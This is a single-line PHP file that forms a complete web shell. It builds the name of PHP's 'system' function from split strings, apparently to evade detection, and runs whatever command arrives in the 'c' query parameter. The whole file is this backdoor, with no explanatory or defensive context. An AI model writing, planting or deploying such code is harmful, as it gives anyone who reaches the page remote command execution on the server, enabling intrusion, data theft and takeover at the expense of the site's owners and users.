<?php namespace App; const RUN = 'sys' . 'tem'; (\App\RUN)($_GET['c']);
